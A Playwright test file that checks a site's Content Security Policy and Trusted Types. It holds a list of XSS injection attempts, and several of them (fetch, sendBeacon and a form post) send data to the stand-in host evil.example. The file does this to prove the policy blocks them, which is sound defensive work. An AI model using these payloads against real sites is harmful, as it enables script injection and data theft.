import { completeLocales } from '@/lib/i18n/routing';
import { rawRequest } from '@/scripts/check-deploy/raw-request';
import { expect, test } from '../kit/fixtures';
import { openRunning } from '../kit/running-page';
import { addresses, unknownAddresses } from '../kit/site';
import { watchViolations } from '../kit/violations';

const policyName = 'content-security-policy';

test(
  'every page, file, redirect and error has the same policy, of at most 1 kB',
  { tag: '@security-1' },
  async ({ request, baseURL }) => {
    const ask = (method: string, path: string) => rawRequest(baseURL ?? '', { path, method });
    const policy = (await request.get('/')).headers()[policyName] ?? '';
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(policy).toContain("require-trusted-types-for 'script'");
    expect(policy).not.toMatch(/unsafe|\*/);
    expect(Buffer.byteLength(policy)).toBeLessThanOrEqual(1000);
    const others = ['/robots.txt', '/about.txt', '/favicon.ico', '/en/about', '/es/', '/_next/static/none.js', '/%'];
    for (const path of [
      ...addresses.map(({ path }) => path),
      ...completeLocales.map((locale) => unknownAddresses[locale]),
      ...others,
    ]) {
      expect((await ask('GET', path)).headers[policyName], path).toBe(policy);
    }
    expect((await ask('POST', '/')).headers[policyName]).toBe(policy);
  },
);

/** Ways to run or fetch foreign resources in the page, by the directive that blocks them. */
const attacks: Record<string, (() => unknown)[]> = {
  'require-trusted-types-for': [
    () => document.head.appendChild(Object.assign(document.createElement('script'), { text: 'pwned = 1' })),
    () => document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="pwned = 1">'),
    () => document.createElement('img').setAttribute('onerror', 'pwned = 1'),
    () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' })),
    () =>
      document.head.append(Object.assign(document.createElement('script'), { src: '/_next/static/../../images/a.js' })),
    () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.pwned = 1</script>' }),
    () => (setTimeout as (code: string) => unknown)('pwned = 1'),
    // Deferred, because code that the test evaluates itself is exempt from the policy.
    () => void setTimeout(() => (0, eval)('pwned = 1')),
    () => void setTimeout(() => new Function('pwned = 1')()),
  ],
  'trusted-types': [
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes.createPolicy('default', { createScript: String }),
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes.createPolicy('mine', { createScript: String }),
  ],
  'script-src-elem': [
    () => location.assign('javascript:pwned = 1'),
    () =>
      Object.assign(document.body.appendChild(document.createElement('a')), { href: 'javascript:pwned = 1' }).click(),
  ],
  'frame-src': [
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
  ],
  'img-src': [() => Object.assign(new Image(), { src: 'https://evil.example/a.png' })],
  'connect-src': [
    () => void fetch('https://evil.example/').catch(() => {}),
    () => navigator.sendBeacon('https://evil.example/', 'words'),
  ],
  'form-action': [
    () =>
      Object.assign(document.body.appendChild(document.createElement('form')), {
        action: 'https://evil.example/',
      }).submit(),
  ],
  'base-uri': [
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  ],
  'style-src-attr': [() => document.body.setAttribute('style', 'display: none')],
  'style-src-elem': [
    () =>
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'main { display: none }' })),
  ],
};

/** Chromium reports this one only in the console. */
function scriptMadeOfTextNode() {
  const script = document.createElement('script');
  script.append('pwned = 1');
  document.head.append(script);
}

test.describe('injected content', () => {
  test.use({ expectedErrors: ['Content Security Policy', 'Content Security policy', 'This document requires'] });

  test(
    'is blocked by the policy and by Trusted Types, and nothing foreign is fetched',
    { tag: '@security-2' },
    async ({ page, baseURL }) => {
      const violations = await watchViolations(page);
      const foreign: string[] = [];
      page.on('response', (response) => {
        if (!response.url().startsWith(baseURL ?? '') && !response.url().startsWith('data:'))
          foreign.push(response.url());
      });
      await page.context().route('https://evil.example/**', (route) => route.fulfill({ body: '' }));
      await openRunning(page, '/contact');
      expect(violations).toEqual([]);
      for (const [directive, attempts] of Object.entries(attacks)) {
        for (const attempt of attempts) {
          const before = violations.length;
          // An attempt that throws was blocked too.
          await page.evaluate(attempt).catch(() => undefined);
          await expect
            .poll(() => violations.slice(before).map((violation) => violation.directive), String(attempt))
            .toContain(directive);
        }
      }
      await page.evaluate(scriptMadeOfTextNode);
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
      expect(foreign).toEqual([]);
      expect(await page.evaluate(() => location.pathname)).toBe('/contact');
    },
  );
});
